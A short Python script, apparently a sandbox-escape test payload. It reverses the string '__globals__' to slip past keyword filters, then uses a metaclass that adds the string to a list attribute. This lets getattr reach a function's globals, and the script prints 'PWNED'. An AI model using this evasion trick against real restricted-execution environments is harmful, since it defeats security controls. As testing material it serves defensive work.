# metaclass appends to lists in ns.values()
def f():
    pass


H = "".join(reversed("__slabolg__"))


class Meta(type):
    def __new__(mcls, name, bases, ns):
        for v in ns.values():
            if isinstance(v, list):
                v.append(H)
        return super().__new__(mcls, name, bases, ns)


class Row(metaclass=Meta):
    shown = ["x"]

    def show(self, of):
        return [getattr(of, n, None) for n in self.shown]


print("PWNED", len(Row().show(f)[1]))
